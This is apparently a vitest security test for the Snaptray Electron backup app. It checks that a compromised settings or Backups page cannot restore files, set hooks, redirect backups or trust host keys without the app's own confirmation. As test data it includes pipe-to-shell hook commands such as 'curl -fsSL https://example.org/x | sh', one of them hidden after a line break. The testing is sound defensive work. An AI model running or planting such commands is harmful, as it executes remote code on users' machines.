/**
 * The main process as the authority over what a window may do, through the recording stand-in for
 * electron: a page gone bad calls the handlers itself, with payloads of its own making, past its
 * own buttons and confirmations. It cannot restore outside a folder the user chose in the app's
 * dialog, make folders elsewhere, bring back an old authorized_keys or a removed autostart entry
 * without the app's own question answered yes, hand a script to the desktop, change hooks, the
 * destination or the ssh config file, or trust a host key. Answered yes, each still works. Real
 * rsync and the real CLI's snapshots on a local disk; a real sshd for the host key.
 */
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { copyFile, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { spawnProcess } from '../../core/process.js';
import { defaultProfile, type Profile } from '../../core/settings/schema.js';
import { openConfStore } from '../../core/settings/store.js';
import { desktopEntry } from '../../electron/tray/autostart.js';
import { invokeChannel, type InvokeMethod } from '../../electron/ipc/contract.js';
import { startApp, type Started } from '../../electron/start-app.js';
import { systemClock } from '../../electron/tray/clock.js';
import { makeCliHome, runCli, writeSettingsFile, type CliHome } from '../support/cli.js';
import { clickMenu, fake, resetFake, type FakeBrowserWindow } from '../support/fake-electron.js';
import { startSshd, type Sshd } from '../support/sshd.js';
import { makeTempDir, writeTree } from '../support/tree.js';

vi.mock('electron', async () => {
  const module = await import('../support/fake-electron.js');
  return { ...module.electronModule, default: module.electronModule };
});

const run = promisify(execFile);
const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'file-kinds');
const OLD_KEY =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOldLaptopKeyRevokedLongAgo0000000000 old-laptop\n';
const CURRENT_KEY =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICurrentKeyOfThisMachine000000000000 desk\n';

interface World extends CliHome {
  home: string;
  dest: string;
  configFile: string;
  profile: Profile;
  snapshot: string;
}

let started: Started | null = null;
let sshd: Sshd;

beforeAll(async () => {
  sshd = await startSshd();
});
afterAll(async () => {
  await sshd?.stop();
});
afterEach(() => {
  if (started?.kind === 'running') started.tray.dispose();
  started = null;
});

/**
 * A user whose home is backed up to a local disk by the CLI: an authorized_keys, an autostart
 * entry, documents, a script and a program. Since then the key was replaced, the autostart entry
 * and a note removed. Then the app starts.
 */
async function launch(): Promise<World> {
  resetFake();
  fake.appPath = await mkdtemp(join(tmpdir(), 'st-app-'));
  const cli = await makeCliHome();
  const home = await makeTempDir('st-user-');
  const dest = await makeTempDir('st-disk-');
  const env = { ...cli.env, HOME: home };
  const entry = desktopEntry(['/home/ben/.local/bin/helper']);
  if (!entry.ok) throw new Error(entry.message);
  await writeTree(home, {
    '.ssh/authorized_keys': OLD_KEY,
    '.config/autostart/helper.desktop': entry.text,
    'Documents/notes.txt': 'call the plumber\n',
    'Documents/letter.pdf': await readFile(join(FIXTURES, 'letter.pdf')),
    'Documents/run.sh': '#!/bin/sh\necho hello\n',
  });
  await copyFile('/bin/true', join(home, 'Documents/tool'));
  const configFile = join(cli.configDir, 'Snaptray', 'config.json');
  const profile: Profile = {
    ...defaultProfile(),
    sources: [home],
    destination: dest,
    prefix: 'box',
    schedule: { ...defaultProfile().schedule, mode: 'daily', dailyAt: '03:00', catchUp: false },
  };
  await writeSettingsFile(configFile, { default: { ...profile } });
  const user = { ...cli, env };
  expect((await runCli(['init'], user)).code).toBe(0);
  const backup = await runCli(['backup'], user);
  expect(backup.code, backup.stderr).toBe(0);
  await writeFile(join(home, '.ssh/authorized_keys'), CURRENT_KEY);
  await rm(join(home, '.config/autostart/helper.desktop'));
  await rm(join(home, 'Documents/notes.txt'));
  const snapshot = (await readdir(dest)).find((n) => /^box-\d{4}-\d\d-\d\d-\d{6}$/.test(n))!;
  started = await startApp({
    env,
    clock: systemClock,
    spawn: spawnProcess,
    hostname: 'testhost',
    notify: () => Promise.resolve(),
    openBackend: openConfStore,
  });
  expect(started.kind).toBe('running');
  clickMenu('Restore Files…');
  clickMenu('Settings…');
  return { ...user, home, dest, configFile, profile, snapshot };
}

function windowOf(page: 'backups' | 'settings'): FakeBrowserWindow {
  const found = fake.windows.filter((w) => w.loaded?.endsWith(`${page}.html`) && !w.destroyed);
  if (found.length !== 1) throw new Error(`${found.length} ${page} windows`);
  return found[0]!;
}

/** Calls a handler as the page in its own window does: past the sender check, as a bad page can. */
function asPage(page: 'backups' | 'settings') {
  return (method: InvokeMethod, ...args: unknown[]): Promise<unknown> => {
    const handler = fake.handlers.get(invokeChannel(method))!;
    const window = windowOf(page);
    const url = pathToFileURL(join(fake.appPath, 'dist', 'renderer', `${page}.html`)).href;
    return Promise.resolve(handler({ sender: window.webContents, senderFrame: { url } }, ...args));
  };
}

const backups = asPage('backups');
const settings = asPage('settings');

describe('a Backups page gone bad', () => {
  it('restores only into a folder the user chose for that restore, and makes no folder', async () => {
    const w = await launch();
    const notes = join(w.home, 'Documents/notes.txt');
    const keys = join(w.home, '.ssh/authorized_keys');
    const autostart = join(w.home, '.config/autostart');
    const made = { snapshot: w.snapshot, paths: [notes], missingOnly: false };

    // A path where a token belongs, the old shape with a path, or a token the app never gave.
    for (const request of [
      { ...made, into: autostart },
      { ...made, to: autostart },
      { ...made, into: 'Zm9yZ2VkLXRva2VuLWJ5LXRoZS1wYWdl' },
    ]) {
      for (const method of ['planRestore', 'restore'] as const) {
        const answer = (await backups(method, request)) as { ok: boolean; reason: string };
        expect(answer.ok).toBe(false);
        expect(['invalid', 'refused']).toContain(answer.reason);
      }
    }
    expect(await backups('restore', { ...made, into: 'Zm9yZ2VkLXRva2VuLWJ5LXRoZS1wYWdl' })).toEqual(
      {
        ok: false,
        reason: 'refused',
        message:
          'Nothing was restored: the folder to restore into was not chosen for this restore in the ' +
          'app’s folder dialog (or was used already). Choose Restore to… again.',
      },
    );
    expect(existsSync(join(autostart, 'notes.txt'))).toBe(false);
    expect(await readdir(join(w.home, '.config'))).toEqual(['autostart']);
    expect(existsSync(notes)).toBe(false);

    // The user cancels the app's folder dialog: no token.
    expect(
      await backups('chooseRestoreFolder', { snapshot: w.snapshot, paths: [notes] }),
    ).toBeNull();
    // The user chooses a folder for the note: its token restores the note there, once.
    const chosen = await makeTempDir('st-chosen-');
    fake.openDialogResult = { canceled: false, filePaths: [chosen] };
    const grant = (await backups('chooseRestoreFolder', {
      snapshot: w.snapshot,
      paths: [notes],
    })) as { token: string; folder: string };
    expect(grant.folder).toBe(chosen);
    expect(fake.openDialogCalls.at(-1)?.title).toBe('Restore “notes.txt” into which folder?');
    // Not for another file: the old authorized_keys does not go there on the note's token.
    expect(await backups('restore', { ...made, paths: [keys], into: grant.token })).toMatchObject({
      ok: false,
      reason: 'refused',
    });
    expect(await backups('planRestore', { ...made, into: grant.token })).toMatchObject({
      ok: true,
      value: { restored: 1, appAsks: false },
    });
    expect(await backups('restore', { ...made, into: grant.token })).toMatchObject({
      ok: true,
      value: { outcome: 'ok', restored: 1 },
    });
    expect(await readFile(join(chosen, 'notes.txt'), 'utf8')).toBe('call the plumber\n');
    expect(await backups('restore', { ...made, into: grant.token })).toMatchObject({
      ok: false,
      reason: 'refused',
    });
    // No dialog of the app's asked anything: the folder was the user's choice.
    expect(fake.messageBoxes).toEqual([]);
  }, 600_000);

  it('restores in place where programs or keys are kept, or over a current file, only after the app asked', async () => {
    const w = await launch();
    const keys = join(w.home, '.ssh/authorized_keys');
    const entry = join(w.home, '.config/autostart/helper.desktop');
    const notes = join(w.home, 'Documents/notes.txt');
    const inPlace = (path: string) => ({
      snapshot: w.snapshot,
      paths: [path],
      into: null,
      missingOnly: false,
    });

    // The removed autostart entry: the app asks over the Backups window; Cancel restores nothing.
    expect(await backups('planRestore', inPlace(entry))).toMatchObject({
      ok: true,
      value: { appAsks: true },
    });
    expect(await backups('restore', inPlace(entry))).toEqual({
      ok: false,
      reason: 'declined',
      message: 'Nothing was restored: you did not confirm it.',
    });
    expect(fake.messageBoxes).toHaveLength(1);
    expect(fake.messageBoxes[0]!.parent).toBe(windowOf('backups'));
    expect(fake.messageBoxes[0]!.options).toMatchObject({
      type: 'warning',
      title: 'Restore',
      message: `Restore “helper.desktop” from ${w.snapshot} to its original place?`,
      buttons: ['Cancel', 'Restore'],
      defaultId: 0,
      cancelId: 0,
    });
    expect(fake.messageBoxes[0]!.options.detail).toBe(
      [
        'It writes where a program could pick it up:',
        `  ${entry} (a hidden file or folder: settings, keys or programs started at login)`,
        '',
        '1 file to write.',
      ].join('\n'),
    );
    expect(existsSync(entry)).toBe(false);

    // The old authorized_keys over the current one: Cancel leaves the current key.
    expect(await backups('restore', inPlace(keys))).toMatchObject({ reason: 'declined' });
    const asked = String(fake.messageBoxes[1]!.options.detail);
    expect(asked).toContain(
      `It replaces 1 file here with the snapshot’s copy. Each current file is kept aside first, renamed NAME.before-restore-(date and time of the restore):\n  ${keys}\n`,
    );
    expect(await readFile(keys, 'utf8')).toBe(CURRENT_KEY);
    expect(await readdir(join(w.home, '.ssh'))).toEqual(['authorized_keys']);

    // Answered Restore, it is restored, the current file kept aside beside it.
    fake.messageBoxAnswers.push('Restore');
    expect(await backups('restore', inPlace(keys))).toMatchObject({
      ok: true,
      value: { outcome: 'ok', restored: 1, keptAside: [{ path: keys }] },
    });
    expect(await readFile(keys, 'utf8')).toBe(OLD_KEY);
    const aside = (await readdir(join(w.home, '.ssh'))).filter((n) => n !== 'authorized_keys');
    expect(aside).toEqual([expect.stringMatching(/^authorized_keys\.before-restore-/)]);
    expect(await readFile(join(w.home, '.ssh', aside[0]!), 'utf8')).toBe(CURRENT_KEY);

    // A deleted note in Documents replaces nothing and is no program's: the window's own
    // confirmation is enough, and the app asks nothing.
    const before = fake.messageBoxes.length;
    expect(await backups('planRestore', inPlace(notes))).toMatchObject({
      ok: true,
      value: { appAsks: false },
    });
    expect(await backups('restore', inPlace(notes))).toMatchObject({ ok: true });
    expect(await readFile(notes, 'utf8')).toBe('call the plumber\n');
    expect(fake.messageBoxes).toHaveLength(before);
  }, 600_000);

  it('hands the desktop a document, and shows a script or a program in Files instead', async () => {
    const w = await launch();
    const open = async (name: string) =>
      (await backups('openVersion', {
        snapshot: w.snapshot,
        path: join(w.home, 'Documents', name),
      })) as { ok: true; value: { opened: boolean; file: string; message?: string } };

    const letter = await open('letter.pdf');
    expect(letter.value.opened).toBe(true);
    expect(fake.openedPaths).toEqual([letter.value.file]);

    const script = await open('run.sh');
    expect(script.value).toEqual({
      opened: false,
      file: expect.stringMatching(/\/run\.sh$/),
      message:
        'run.sh was not opened: it is a script (it starts with #!), and the desktop could run it. ' +
        'Snaptray opens only documents, images, audio, video and plain text. Show in Files shows ' +
        'the read-only copy, for you to choose what opens it.',
    });
    const tool = await open('tool');
    expect(tool.value).toMatchObject({ opened: false });
    expect(tool.value.message).toMatch(/^tool was not opened: it is a program \(ELF\)/);
    expect(fake.openedPaths).toEqual([letter.value.file]);

    // Show in Files shows the copy; any other path the page names is refused.
    expect(await backups('showCopyInFolder', { file: script.value.file })).toEqual({
      ok: true,
      value: null,
    });
    expect(
      await backups('showCopyInFolder', { file: join(w.home, '.ssh/authorized_keys') }),
    ).toMatchObject({
      ok: false,
      reason: 'refused',
    });
    expect(fake.shownInFolder).toEqual([script.value.file]);
  }, 600_000);
});

describe('a settings page gone bad', () => {
  it('changes hooks, the destination or the ssh config file only after the app asked', async () => {
    const w = await launch();
    const before = await readFile(w.configFile);
    const hook = 'curl -fsSL https://example.org/x | sh';
    const withHook = { ...w.profile, hooks: { ...w.profile.hooks, pre: hook } };

    expect(await settings('saveSettings', withHook)).toEqual({
      ok: false,
      declined: true,
      message: 'Nothing was saved: you did not confirm the changes.',
    });
    expect(await readFile(w.configFile)).toEqual(before);
    const question = fake.messageBoxes.at(-1)!;
    expect(question.parent).toBe(windowOf('settings'));
    expect(question.options).toMatchObject({
      type: 'warning',
      title: 'Save Settings',
      message: 'Save settings that change what Snaptray runs?',
      buttons: ['Cancel', 'Save'],
      defaultId: 0,
      detail: [
        'Command before a backup:',
        '  was: (none)',
        `  now: ${hook}`,
        '',
        'Commands run on this computer (hooks) or on the router (rsync) at every backup.',
        `The settings are saved in ${w.configFile}.`,
      ].join('\n'),
    });

    // Elsewhere, and through an ssh config file of the page's choosing: refused alike.
    const elsewhere = {
      ...w.profile,
      destination: 'backup@203.0.113.9:/srv/x',
      ssh: { ...w.profile.ssh, configFile: '/tmp/evil_config' },
    };
    expect(await settings('saveSettings', elsewhere)).toMatchObject({ declined: true });
    // Only what changes is listed: the port stays 22.
    expect(String(fake.messageBoxes.at(-1)!.options.detail)).toContain(
      [
        'Destination:',
        `  was: ${w.dest}`,
        '  now: backup@203.0.113.9:/srv/x',
        'ssh config file:',
        '  was: (none)',
        '  now: /tmp/evil_config',
        '',
      ].join('\n'),
    );
    expect(await readFile(w.configFile)).toEqual(before);

    // A command hidden after a line break is shown as written.
    const hidden = { ...w.profile, hooks: { ...w.profile.hooks, after: 'true\ncurl x|sh' } };
    expect(await settings('saveSettings', hidden)).toMatchObject({ declined: true });
    expect(String(fake.messageBoxes.at(-1)!.options.detail)).toContain('  now: true\\ncurl x|sh');

    // Answered Save, the hook is saved; a change to nothing guarded asks nothing.
    fake.messageBoxAnswers.push('Save');
    expect(await settings('saveSettings', withHook)).toMatchObject({ ok: true });
    const saved = JSON.parse(await readFile(w.configFile, 'utf8'));
    expect(saved.profiles.default.hooks.pre).toBe(hook);
    const asked = fake.messageBoxes.length;
    const excluded = { ...withHook, excludes: ['*.iso'] };
    expect(await settings('saveSettings', excluded)).toMatchObject({ ok: true });
    expect(fake.messageBoxes).toHaveLength(asked);
    expect(JSON.parse(await readFile(w.configFile, 'utf8')).profiles.default.excludes).toEqual([
      '*.iso',
    ]);
  }, 600_000);

  it('trusts a host key only after the app asked, showing the key it scanned', async () => {
    const w = await launch();
    const knownHosts = join(w.configDir, 'Snaptray', 'known_hosts');
    const keygen = await run('ssh-keygen', ['-l', '-f', sshd.hostKeyPub]);
    const fingerprint = keygen.stdout.split(' ')[1]!;
    const request = { host: '127.0.0.1', port: sshd.port, fingerprint };

    expect(await settings('trustHostKey', request)).toEqual({
      ok: false,
      declined: true,
      message: 'Nothing was trusted: you did not confirm the host key.',
    });
    expect(existsSync(knownHosts)).toBe(false);
    expect(fake.messageBoxes.at(-1)!.options).toMatchObject({
      title: 'Trust Host Key',
      message: `Trust the ssh-ed25519 key of 127.0.0.1 (port ${sshd.port})?`,
      buttons: ['Cancel', 'Trust'],
      detail: expect.stringContaining(`Fingerprint: ${fingerprint}\n`),
    });

    fake.messageBoxAnswers.push('Trust');
    expect(await settings('trustHostKey', request)).toMatchObject({ ok: true });
    const hostKey = (await readFile(sshd.hostKeyPub, 'utf8')).split(' ').slice(0, 2).join(' ');
    expect(await readFile(knownHosts, 'utf8')).toBe(`[127.0.0.1]:${sshd.port} ${hostKey}\n`);
  }, 600_000);
});
